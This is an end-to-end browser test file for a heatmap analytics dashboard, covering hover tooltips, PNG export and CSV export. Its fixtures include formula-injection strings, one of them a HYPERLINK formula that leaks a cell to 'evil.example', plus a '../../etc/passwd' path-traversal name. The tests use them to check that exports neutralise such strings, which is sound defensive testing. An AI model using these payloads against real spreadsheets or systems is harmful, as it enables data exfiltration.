// SPDX-License-Identifier: MIT
// The page view's hover and exports end to end in Debian's Chromium, on a
// real server fed by the real tracker (clicks on the demo pricing page) and
// by hostile strings posted to /collect: the tooltip names the element under
// the pointer as the tracker does and gives its clicks and the grid cell's
// count (both sides in a comparison); Export PNG downloads the page beneath
// with the heatmap over it and a caption (the hottest pixel on the most
// clicked button, the page's own colours where its elements are), or the
// heatmap on a plain background when the page cannot be read; the element
// and pages CSV files parse, carry the API's numbers and neutralise cells
// that a spreadsheet would run as formulas. Files and screenshots go to
// tests/out/export-*.
import { mkdirSync, writeFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test, run, assert, assertEq, startServer, addSite, tempDir, cleanup, freePort, launchChromium, sleep, ROOT } from '../lib/harness.mjs';
import { decodePng, heatScore, pngText } from '../lib/png.mjs';
import { parseCsv } from '../lib/csv.mjs';

const OUT = join(ROOT, 'tests', 'out');
mkdirSync(OUT, { recursive: true });
const port = await freePort();
const origin = `http://127.0.0.1:${port}`;
const dataDir = tempDir();
const key = addSite(dataDir, 'demo', [origin]);
const server = await startServer({ dataDir, port, extraArgs: ['--demo-site', key] });
const browser = await launchChromium();
const PAGE = '/demo/pricing.html';
// a page the preview cannot read: the dashboard itself refuses to be framed
const BLOCKED = '/';
// stored through /collect, as anyone on the internet can
const HOSTILE = [
	['=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', 2, [200, 2300]],
	['+SUM(1,2)', 1, [600, 2500]],
	['-2+3', 1, [1000, 2700]],
	['@cmd', 1, [1300, 2900]],
];
const HOSTILE_PATH = '/demo/x,"=1+1"';
const CLICKS = { pro: 8, h3: 3, starter: 2, mobile: 3 };
const DESKTOP_CLICKS = CLICKS.pro + CLICKS.h3 + CLICKS.starter + HOSTILE.reduce((a, h) => a + h[1], 0);

const api = async (path, params) => {
	const r = await server.api(`${path}?${new URLSearchParams({ site: key, ...params })}`);
	const j = await r.json();
	if (!r.ok) throw new Error(`${path} ${JSON.stringify(params)}: HTTP ${r.status} ${JSON.stringify(j)}`);
	return j;
};

// ------------------------------------------------------------ known data

async function send(body) {
	const r = await fetch(`${server.url}/collect`, { method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify(body) });
	if (r.status !== 204) throw new Error(`collect: HTTP ${r.status} ${await r.text()}`);
}

// Real clicks through the real tracker: the pro plan's button, its card's
// heading and the starter button on desktop, the pro button on a phone.
async function trackerClicks({ viewport, touch, plan }) {
	const ctx = await browser.newContext({ viewport, hasTouch: !!touch, isMobile: !!touch });
	const page = await ctx.newPage();
	const errors = [];
	page.on('pageerror', e => errors.push(String(e)));
	await page.goto(`${server.url}${PAGE}`);
	await page.waitForFunction(() => typeof window.calor === 'function' && !window.calor.q);
	for (const [sel, n] of plan) {
		for (let i = 0; i < n; i++) {
			if (touch) await page.tap(sel); else await page.click(sel);
			await sleep(80);
		}
	}
	await page.mouse.wheel(0, 1200);
	await sleep(400);
	// leaving the page flushes the tracker's queue
	await page.goto('about:blank');
	await ctx.close();
	assertEq(errors, [], 'demo page errors');
}

async function until(f, what) {
	const deadline = Date.now() + 20000;
	for (;;) {
		const v = await f();
		if (v) return v;
		if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
		await sleep(200);
	}
}

test('clicks go in through the real tracker and hostile strings through /collect', async () => {
	await trackerClicks({ viewport: { width: 1440, height: 900 }, plan: [['#plan-pro', CLICKS.pro], ['#card-pro h3', CLICKS.h3], ['#plan-starter', CLICKS.starter]] });
	await trackerClicks({ viewport: { width: 390, height: 844 }, touch: true, plan: [['#plan-pro', CLICKS.mobile]] });
	const now = Date.now();
	const click = (ts, sel, x, y) => ({ t: 'click', ts, x, y, vw: 1440, vh: 900, dw: 1440, dh: 3200, sel, ex: 30000, ey: 30000, ew: 100, eh: 40, pt: 'mouse', ia: 1 });
	let t = now - 60000;
	const ev = [];
	for (const [sel, n, [x, y]] of HOSTILE) for (let i = 0; i < n; i++) ev.push(click(t += 4000, sel, x, y));
	await send({ v: 1, site: key, now, pv: { id: 'pv_hostile_0001', seq: 0, sid: 'sess_hostile_0001', url: PAGE, ts: now - 70000, vw: 1440, vh: 900 }, ev });
	await send({ v: 1, site: key, now, pv: { id: 'pv_hostile_0002', seq: 0, sid: 'sess_hostile_0002', url: HOSTILE_PATH, ts: now - 50000, vw: 1440, vh: 900 }, ev: [] });
	await send({ v: 1, site: key, now, pv: { id: 'pv_blocked_0001', seq: 0, sid: 'sess_blocked_0001', url: BLOCKED, ts: now - 40000, vw: 1440, vh: 900 },
		ev: [click(now - 39000, '#hero', 720, 400), click(now - 38000, '#hero', 720, 400)] });
	const e = await until(async () => {
		const j = await api('/api/v1/elements', { page: PAGE, device: 'desktop' });
		return j.clicks >= DESKTOP_CLICKS ? j : null;
	}, 'the desktop clicks');
	assertEq(e.clicks, DESKTOP_CLICKS, 'desktop clicks');
	assertEq(e.elements[0].selector, '#plan-pro', 'most clicked');
	assertEq(e.elements[0].clicks, CLICKS.pro, 'its clicks');
	assert(e.elements.some(x => x.selector === '#card-pro > h3' && x.clicks === CLICKS.h3), `the heading's selector: ${JSON.stringify(e.elements.map(x => x.selector))}`);
	await until(async () => (await api('/api/v1/heatmap', { page: PAGE, device: 'mobile' })).clicks >= CLICKS.mobile, 'the phone taps');
});

// ------------------------------------------------------------ the dashboard

let ctx, page;
const consoleErrors = [];
const dialogs = [];
const hashOf = (path, query) => `#/site/${encodeURIComponent(key)}/page/${encodeURIComponent(path)}?${new URLSearchParams(query)}`;
const shot = async name => { await sleep(200); await page.screenshot({ path: join(OUT, `export-${name}.png`) }); };
const preview = () => page.frames().find(f => f.name() === 'calor-preview');

async function open(path, q) {
	await page.evaluate(h => { location.hash = h; }, hashOf(path, q));
}
async function ready(type) {
	await page.locator(`img#heatmap-overlay[data-state="ready"][data-type="${type}"]`).waitFor({ state: 'visible', timeout: 15000 });
	await page.locator('#view[data-state="ready"]').waitFor({ timeout: 10000 });
}
// The centre of an element of a framed page, in the dashboard's screen px,
// and its box in the framed document's px.
async function target(frameSel, sel) {
	const loc = page.frameLocator(frameSel).locator(sel).first();
	await loc.waitFor();
	await loc.evaluate(el => el.scrollIntoView({ block: 'center', inline: 'center' }));
	await sleep(100);
	const b = await loc.boundingBox();
	const doc = await loc.evaluate(el => {
		const r = el.getBoundingClientRect();
		return { x: r.left + scrollX, y: r.top + scrollY, w: r.width, h: r.height };
	});
	return { x: b.x + b.width / 2, y: b.y + b.height / 2, doc };
}
async function hover(tip, point) {
	await page.mouse.move(point.x - 6, point.y - 4);
	await page.mouse.move(point.x, point.y, { steps: 3 });
	await page.locator(`${tip}[data-state="shown"]`).waitFor({ timeout: 10000 });
}
// A download started by clicking sel: its suggested name and bytes.
async function downloadOf(sel) {
	const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 60000 }), page.click(sel)]);
	const path = await dl.path();
	return { name: dl.suggestedFilename(), bytes: readFileSync(path) };
}

// The clicks the tooltip counts: the cells of a cell=5 answer whose
// centre is in the 20 px square centred on (x, y).
const near = d => d >= -10 && d < 10;
const around = (j, x, y) => j.cells.filter(c => near(c[0] + j.cell / 2 - x) && near(c[1] + j.cell / 2 - y)).reduce((a, c) => a + c[2], 0);
const inside = (b, x, y, slack = 0) => x >= b.x - slack && x <= b.x + b.w + slack && y >= b.y - slack && y <= b.y + b.h + slack;

// The reddest spot of a composite: centroid of the pixels whose red most
// exceeds their green and blue (the hot end of the classic palette), in
// the region y < maxY.
function reddest(img, maxY) {
	let best = -Infinity;
	const score = i => img.data[i] - Math.max(img.data[i + 1], img.data[i + 2]);
	for (let y = 0; y < maxY; y++) for (let x = 0; x < img.width; x++) best = Math.max(best, score((y * img.width + x) * 4));
	let sx = 0, sy = 0, n = 0;
	for (let y = 0; y < maxY; y++) for (let x = 0; x < img.width; x++) {
		if (score((y * img.width + x) * 4) >= best - 6) { sx += x; sy += y; n++; }
	}
	return { x: sx / n, y: sy / n, score: best, n };
}

// The share of a box's pixels within tol of an RGB colour.
function shareOf(img, box, rgb, tol = 8) {
	let hit = 0, all = 0;
	for (let y = Math.ceil(box.y); y < box.y + box.h; y++) for (let x = Math.ceil(box.x); x < box.x + box.w; x++) {
		const i = (y * img.width + x) * 4;
		all++;
		if (Math.abs(img.data[i] - rgb[0]) <= tol && Math.abs(img.data[i + 1] - rgb[1]) <= tol && Math.abs(img.data[i + 2] - rgb[2]) <= tol) hit++;
	}
	return all ? hit / all : 0;
}

test('the CSV and file name rules of the served export.js', async () => {
	ctx = await browser.newContext({ viewport: { width: 1600, height: 1000 }, locale: 'en-US', acceptDownloads: true });
	await server.signIn(ctx);
	page = await ctx.newPage();
	page.on('pageerror', e => consoleErrors.push(String(e)));
	page.on('console', m => { if (m.type() === 'error') consoleErrors.push(m.text()); });
	page.on('dialog', d => { dialogs.push(d.message()); d.dismiss(); });
	await page.goto(`${server.url}/${hashOf(PAGE, { device: 'desktop', type: 'click' })}`);
	await ready('click');
	const got = await page.evaluate(async () => {
		const m = await import('/export.js');
		const cases = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'a,b', 'say "hi"', 'two\nlines', ' =1', 'plain', -1, 0.25, 0, null, undefined, true, false, NaN];
		return {
			fields: cases.map(v => m.csvField(v)),
			csv: m.toCsv(['a', 'b'], [['=x', 1], ['y,z', null]]),
			names: [m.fileName(['demo', '/demo/pricing.html', 'click', 'desktop'], 'png'), m.fileName(['Ünïcödé site!', '/', '../../etc/passwd', 'a\u0000b'], 'csv')],
		};
	});
	assertEq(got.fields, ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "\"'\rx\"", '"a,b"', '"say ""hi"""', '"two\nlines"', ' =1', 'plain', '-1', '0.25', '0', '', '', 'true', 'false', ''], 'fields');
	assertEq(got.csv, 'a,b\r\n\'=x,1\r\n"y,z",\r\n', 'a whole file');
	assertEq(got.names, ['calor-demo-demo-pricing.html-click-desktop.png', 'calor-Unicode-site-etc-passwd-a-b.csv'], 'file names');
});

test('hover: the tooltip names the element under the pointer as the tracker does, with its clicks and the count around the pointer', async () => {
	const pro = await target('iframe#preview', '#plan-pro');
	await hover('#hover-tip', pro);
	const tip = page.locator('#hover-tip');
	await tip.locator('.hover-element-clicks strong').waitFor({ timeout: 10000 });
	await tip.locator('.hover-value .hover-count').waitFor();
	assertEq(await tip.locator('.hover-selector').innerText(), '#plan-pro', 'selector');
	assertEq(await tip.locator('.hover-element-clicks strong').getAttribute('data-count'), String(CLICKS.pro), 'element clicks');
	assert((await tip.locator('.hover-element-clicks').innerText()).includes(`${CLICKS.pro} clicks on this element (${(CLICKS.pro / DESKTOP_CLICKS * 100).toFixed(1)}% of all)`),
		`element line: ${await tip.locator('.hover-element-clicks').innerText()}`);
	// the cell under the pointer, as the API counts it
	const x = Number(await tip.getAttribute('data-x')), y = Number(await tip.getAttribute('data-y'));
	assert(inside(pro.doc, x, y, 2), `the pointer (${x}, ${y}) is on the button ${JSON.stringify(pro.doc)}`);
	const grid = await api('/api/v1/heatmap', { page: PAGE, device: 'desktop', width: '1440', cell: '5' });
	const want = around(grid, x, y);
	assertEq(want, CLICKS.pro, 'the API has the button\'s clicks around the pointer');
	assertEq(await tip.locator('.hover-value .hover-count').getAttribute('data-count'), String(want), 'count around the pointer');
	assert((await tip.innerText()).includes(`${(want / DESKTOP_CLICKS * 100).toFixed(1)}% of all ${DESKTOP_CLICKS}`), `share: ${await tip.innerText()}`);
	// it sits near the pointer, takes no pointer and no focus
	const tb = await tip.boundingBox();
	assert(Math.abs(tb.x - pro.x) < 60 && Math.abs(tb.y - pro.y) < 60, `tooltip ${JSON.stringify(tb)} near the pointer ${pro.x},${pro.y}`);
	assertEq(await tip.evaluate(el => [getComputedStyle(el).pointerEvents, el.tabIndex, el.getAttribute('aria-hidden'), el.querySelectorAll('a, button, input, [tabindex]').length]),
		['none', -1, 'true', 0], 'pointer-events, focus');
	await shot('hover');
	// the dark theme: the tooltip takes the theme's colours
	await page.emulateMedia({ colorScheme: 'dark' });
	await hover('#hover-tip', { x: pro.x + 1, y: pro.y });
	const [bg, body] = await page.evaluate(() => [getComputedStyle(document.getElementById('hover-tip')).backgroundColor,
		getComputedStyle(document.documentElement).getPropertyValue('--surface').trim()]);
	assert(bg !== 'rgb(255, 255, 255)', `dark tooltip background ${bg} (--surface ${body})`);
	await shot('hover-dark');
	await page.emulateMedia({ colorScheme: 'light' });

	// an element without an id: the tracker's "#card-pro > h3"
	const h3 = await target('iframe#preview', '#card-pro h3');
	await hover('#hover-tip', h3);
	await page.waitForFunction(() => document.querySelector('#hover-tip .hover-selector')?.textContent === '#card-pro > h3');
	assertEq(await tip.locator('.hover-element-clicks strong').getAttribute('data-count'), String(CLICKS.h3), 'heading clicks');
	// a part of the page nobody clicked
	const lead = await target('iframe#preview', '.lead');
	await hover('#hover-tip', lead);
	await page.waitForFunction(() => document.querySelector('#hover-tip .hover-selector')?.textContent.endsWith('p.lead'));
	assertEq(await tip.locator('.hover-element-none').count(), 1, 'no clicks on the lead');
	// the controls still work under a shown tooltip, and leaving hides it
	await page.mouse.move(5, 5);
	await tip.waitFor({ state: 'hidden' });
	await hover('#hover-tip', pro);
	await page.click('#zoom-100');
	await page.waitForFunction(() => location.hash.includes('zoom=100'));
	await tip.waitFor({ state: 'hidden' });
	await page.click('#zoom-fit');
	await page.waitForFunction(() => !location.hash.includes('zoom='));
});

test('hover on scroll, attention and confetti: the reach and the attention of the depth, the dots', async () => {
	await open(PAGE, { device: 'desktop', type: 'scroll' });
	await ready('scroll');
	const s = await api('/api/v1/heatmap', { page: PAGE, device: 'desktop', type: 'scroll', width: '1440' });
	const pro = await target('iframe#preview', '#plan-pro');
	await hover('#hover-tip', pro);
	const tip = page.locator('#hover-tip');
	const y = Number(await tip.getAttribute('data-y'));
	const d = Math.floor(y / (s.height || s.doc_height) * 100);
	const pct = new Intl.NumberFormat('en-US', { maximumFractionDigits: 1 }).format(s.reach[d] * 100);
	assertEq(await tip.locator('.hover-value').innerText(), `${pct}% of page views reach this depth`, 'reach');
	assert((await tip.innerText()).includes(`${d}% down the page`), 'depth');
	await open(PAGE, { device: 'desktop', type: 'attention' });
	await ready('attention');
	await hover('#hover-tip', await target('iframe#preview', '#plan-pro'));
	assert((await tip.locator('.hover-value').innerText()).endsWith('of all attention'), 'attention');
	// confetti: the dots under the pointer (medium dots: 10 px)
	await open(PAGE, { device: 'desktop', type: 'confetti' });
	await ready('confetti');
	await hover('#hover-tip', await target('iframe#preview', '#plan-pro'));
	const cx = Number(await tip.getAttribute('data-x')), cy = Number(await tip.getAttribute('data-y'));
	const c = await api('/api/v1/heatmap', { page: PAGE, device: 'desktop', type: 'confetti', width: '1440', radius: '50' });
	const dots = c.points.filter(p => Math.hypot(p[0] - cx, p[1] - cy) <= 10).length;
	assertEq(await tip.locator('.hover-value .hover-count').getAttribute('data-count'), String(dots), 'dots under the pointer');
	assertEq(dots, CLICKS.pro, 'the button\'s clicks');
	await page.mouse.move(5, 5);
});

test('Export PNG: the page beneath, the heatmap over it (hottest on the most clicked button), a caption', async () => {
	await open(PAGE, { device: 'desktop', type: 'click' });
	await ready('click');
	await page.locator('#overlay-opacity').evaluate(el => { el.value = '100'; el.dispatchEvent(new Event('input', { bubbles: true })); });
	const stageH = Number(await page.locator('#stage').getAttribute('data-height'));
	const { name, bytes } = await downloadOf('#export-png');
	assertEq(name, 'calor-demo-demo-pricing.html-click-desktop.png', 'file name');
	writeFileSync(join(OUT, 'export-page.png'), bytes);
	const img = decodePng(bytes);
	assertEq(img.width, 1440, 'width: the device width');
	assert(img.height > stageH + 40 && img.height < stageH + 200, `height ${img.height}: the stage (${stageH}) and a caption`);
	assertEq(await page.locator('#export-png').getAttribute('data-page'), 'shown', 'the page was drawn');
	// the hottest pixel is on the button clicked most
	const pro = await target('iframe#preview', '#plan-pro');
	const hot = reddest(img, stageH);
	assert(inside(pro.doc, hot.x, hot.y), `reddest pixels (${hot.x.toFixed(1)}, ${hot.y.toFixed(1)}; ${hot.n} px, score ${hot.score}) on #plan-pro ${JSON.stringify(pro.doc)}`);
	// the page beneath: the header's button in the demo's brand colour,
	// where the framed page has it (nobody clicked there)
	const cta = (await target('iframe#preview', '#nav-cta')).doc;
	const brand = shareOf(img, cta, [0x4f, 0x46, 0xe5]);
	assert(brand > 0.5, `#nav-cta ${JSON.stringify(cta)} is brand blue in the PNG (${(brand * 100).toFixed(0)}% of its pixels)`);
	const heading = (await target('iframe#preview', 'main h1')).doc;
	const white = shareOf(img, heading, [255, 255, 255]);
	const dark = shareOf(img, heading, [0x0f, 0x17, 0x2a], 40);
	assert(white > 0.4 && dark > 0.05, `the headline: white page ${white.toFixed(2)} with dark text ${dark.toFixed(2)}`);
	// the caption, as text in the file
	const t = pngText(bytes);
	assertEq(JSON.parse(t['calor:layout']), [{ x: 0, y: 0, width: 1440, height: stageH, page: true }], 'the page at the top left, 1:1');
	assertEq(t.Title, `demo · ${PAGE}`, 'title');
	const e = await api('/api/v1/heatmap', { page: PAGE, device: 'desktop', cell: '1000' });
	for (const want of ['Clicks · Desktop, 1440 px wide · all time · all visitors',
		`${e.pageviews} page views · ${e.sessions} sessions (fewer than 1,000 sessions: not yet reliable) · ${DESKTOP_CLICKS} clicks`, 'opacity 100%', 'radius 25 px',
		'Colour scale: Fewer clicks to More clicks']) {
		assert(t.Description.includes(want), `caption has "${want}": ${t.Description}`);
	}
	assert(!t.Description.includes('Page not shown'), 'no note');
	await page.locator('#overlay-opacity').evaluate(el => { el.value = '75'; el.dispatchEvent(new Event('input', { bubbles: true })); });
});

test('Export PNG of a page the dashboard cannot read: the heatmap on a plain background, and the caption says so; hover says so too', async () => {
	await open(BLOCKED, { device: 'desktop', type: 'click' });
	await ready('click');
	await sleep(500); // the blocked frame's error page
	const box = await page.locator('#stage').boundingBox();
	const scale = Number(await page.locator('#stage').getAttribute('data-scale'));
	await hover('#hover-tip', { x: box.x + 730 * scale, y: box.y + 410 * scale });
	const tip = page.locator('#hover-tip');
	await tip.locator('.hover-value .hover-count').waitFor();
	assertEq(await tip.locator('.hover-element-unknown').count(), 1, 'the element cannot be named');
	assertEq(await tip.locator('.hover-value .hover-count').getAttribute('data-count'), '2', `the clicks at the hot spot: ${await tip.innerText()}`);
	await shot('hover-blocked');
	await page.mouse.move(5, 5);
	const { name, bytes } = await downloadOf('#export-png');
	assertEq(name, 'calor-demo-home-click-desktop.png', 'file name of the page "/"');
	writeFileSync(join(OUT, 'export-blocked.png'), bytes);
	assertEq(await page.locator('#export-png').getAttribute('data-page'), 'missing', 'no page beneath');
	const t = pngText(bytes);
	assert(t.Description.includes('Page not shown: the framed page cannot be read'), `caption: ${t.Description}`);
	const img = decodePng(bytes);
	const stageH = Number(await page.locator('#stage').getAttribute('data-height'));
	let hot = { s: -Infinity };
	for (let y = 0; y < stageH; y++) for (let x = 0; x < img.width; x++) {
		const s = heatScore(img.data, (y * img.width + x) * 4) - img.data[(y * img.width + x) * 4 + 3] * 1024;
		if (s > hot.s) hot = { s, x, y };
	}
	assert(Math.abs(hot.x - 720) < 12 && Math.abs(hot.y - 400) < 12, `the hot spot at (${hot.x}, ${hot.y}), clicked at (720, 400)`);
});

test('Elements CSV: the API\'s fields, the most clicked first with its count, hostile selectors neutralised', async () => {
	await open(PAGE, { device: 'desktop', type: 'elements' });
	await ready('elements');
	await page.locator('#elements-table').waitFor();
	await shot('elements-panel');
	const { name, bytes } = await downloadOf('#export-elements-csv');
	assertEq(name, 'calor-demo-demo-pricing.html-elements-desktop.csv', 'file name');
	writeFileSync(join(OUT, 'export-elements.csv'), bytes);
	const text = bytes.toString('utf8');
	assert(bytes[0] !== 0xef, 'no byte-order mark');
	const rows = parseCsv(text);
	assertEq(rows[0], ['selector', 'clicks', 'share', 'share_low', 'share_high', 'sessions', 'rage', 'dead', 'error', 'interactive',
		'non_interactive_clicks', 'converted', 'conversion', 'conversion_low', 'conversion_high', 'goal', 'page_conversion',
		'page_conversion_low', 'page_conversion_high'], 'header');
	assert(rows.every(r => r.length === rows[0].length), 'every row has every column');
	const j = await api('/api/v1/elements', { page: PAGE, device: 'desktop', limit: '1000' });
	assertEq(rows.length - 1, j.elements.length, 'one row per element');
	assertEq([rows[1][0], rows[1][1]], ['#plan-pro', String(CLICKS.pro)], 'the most clicked first, with its count');
	const col = k => rows[0].indexOf(k);
	rows.slice(1).forEach((r, i) => {
		const e = j.elements[i];
		assertEq([r[col('clicks')], r[col('sessions')], r[col('rage')], r[col('interactive')]].map(String), [e.clicks, e.sessions, e.rage, e.interactive].map(String), `row ${i}`);
		assertEq([Number(r[col('share')]), Number(r[col('share_low')]), Number(r[col('share_high')])], [e.share.rate, e.share.low, e.share.high], `share of row ${i}`);
	});
	for (const [sel, n] of HOSTILE) {
		const r = rows.find(x => x[0] === `'${sel}`);
		assert(r, `${sel} comes out as '${sel}`);
		assertEq(r[col('clicks')], String(n), `clicks of ${sel}`);
	}
	assert(text.includes('"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")"'), 'quoted, quotes doubled');
	for (const r of rows) for (const f of r) assert(!/^[=+\-@\t\r]/.test(f), `no cell starts a formula: ${f}`);
});

test('Pages CSV: every page with the table\'s columns, paths quoted', async () => {
	await page.evaluate(k => { location.hash = `#/site/${encodeURIComponent(k)}`; }, key);
	await page.locator('#pages-card[data-state="ready"]').waitFor({ timeout: 10000 });
	const { name, bytes } = await downloadOf('#pages-csv');
	assertEq(name, 'calor-demo-pages-all.csv', 'file name');
	writeFileSync(join(OUT, 'export-pages.csv'), bytes);
	const text = bytes.toString('utf8');
	const rows = parseCsv(text);
	assertEq(rows[0], ['path', 'pageviews', 'sessions', 'clicks', 'rage', 'dead', 'error', 'depth', 'scroll_pageviews', 'converted',
		'conversion', 'conversion_low', 'conversion_high', 'priority'], 'header');
	const j = await api('/api/v1/pages', {});
	assertEq(rows.slice(1).map(r => r[0]), j.pages.map(p => p.path), 'every page, in the table\'s order');
	const p = j.pages.find(x => x.path === PAGE);
	const r = rows.find(x => x[0] === PAGE);
	assertEq([r[1], r[2], r[3]], [String(p.pageviews), String(p.sessions), String(p.clicks)], 'numbers of the pricing page');
	assert(rows.some(x => x[0] === HOSTILE_PATH), 'the hostile path comes back exactly');
	assert(text.includes('"/demo/x,""=1+1"""'), 'quoted, quotes doubled');
	await shot('pages');
});

test('Compare: the tooltip shows both sides; side by side, each side has one and the PNG has both pages', async () => {
	await open(PAGE, { device: 'desktop', type: 'diff', vs: 'device', 'vs.device': 'mobile' });
	await ready('diff');
	const pro = await target('iframe#preview', '#plan-pro');
	await hover('#hover-tip', pro);
	const tip = page.locator('#hover-tip');
	await tip.locator('.hover-side-b .hover-count').waitFor({ timeout: 10000 });
	await page.waitForFunction(() => document.querySelectorAll('#hover-tip .hover-element-clicks').length === 2);
	const x = Number(await tip.getAttribute('data-x')), y = Number(await tip.getAttribute('data-y'));
	const at = (g) => around(g, x, y);
	const a = await api('/api/v1/heatmap', { page: PAGE, device: 'desktop', width: '1440', cell: '5' });
	const b = await api('/api/v1/heatmap', { page: PAGE, device: 'mobile', width: '1440', cell: '5' });
	assertEq([await tip.locator('.hover-side-a .hover-count').getAttribute('data-count'), await tip.locator('.hover-side-b .hover-count').getAttribute('data-count')],
		[String(at(a)), String(at(b))], 'both sides\' cells');
	assertEq(await tip.locator('.hover-element-clicks strong').evaluateAll(els => els.map(e => e.textContent)),
		[`A: ${CLICKS.pro} clicks`, `B: ${CLICKS.mobile} clicks`], 'both sides\' element clicks');
	await shot('hover-diff');

	await page.click('#cmp-side');
	await page.waitForFunction(() => location.hash.includes('cmp=side'));
	await page.locator('#side-a-stage-overlay[data-state="ready"]').waitFor({ state: 'visible', timeout: 15000 });
	await page.locator('#side-b-stage-overlay[data-state="ready"]').waitFor({ state: 'visible', timeout: 15000 });
	await sleep(500);
	const mob = await target('#side-b-stage-frame', '#plan-pro');
	await hover('#hover-tip-b', mob);
	const tipB = page.locator('#hover-tip-b');
	await tipB.locator('.hover-side-b .hover-count').waitFor({ timeout: 10000 });
	assertEq(await tipB.locator('.hover-selector').innerText(), '#plan-pro', 'B\'s element');
	await shot('hover-side');
	await page.mouse.move(5, 5);
	const { name, bytes } = await downloadOf('#export-png');
	assertEq(name, 'calor-demo-demo-pricing.html-diff-desktop.png', 'file name');
	writeFileSync(join(OUT, 'export-side.png'), bytes);
	const img = decodePng(bytes);
	assertEq(img.width, 1440 + 16 + 390, 'both pages side by side');
	const t = pngText(bytes);
	assert(t.Description.includes('A: Desktop · all time') && t.Description.includes('B: Mobile · all time'), `caption: ${t.Description}`);
	const [la, lb] = JSON.parse(t['calor:layout']);
	assertEq([la.x, la.width, la.page, lb.x, lb.width, lb.page, la.y === lb.y && la.y > 0], [0, 1440, true, 1456, 390, true, true], 'columns, under their labels');
	// the phone's page beneath: its header button in brand blue
	const ctaB = (await target('#side-b-stage-frame', '#nav-cta')).doc;
	const brand = shareOf(img, { ...ctaB, x: ctaB.x + lb.x, y: ctaB.y + lb.y }, [0x4f, 0x46, 0xe5]);
	assert(brand > 0.5, `B's #nav-cta ${JSON.stringify(ctaB)} is brand blue (${(brand * 100).toFixed(0)}%)`);
});

test('the dashboard made no errors and the previews recorded nothing', async () => {
	await ctx.close();
	// the blocked preview is the test's own doing
	assertEq(consoleErrors.filter(m => !m.includes("frame-ancestors 'none'")), [], 'dashboard errors');
	assertEq(dialogs, [], 'dialogs');
	const j = await api('/api/v1/pages', {});
	assertEq(j.pageviews, 2 + 3, 'page views: two tracker sessions and three posted');
});

await run({ after: async () => { await browser.close(); await server.stop(); cleanup(dataDir); } });
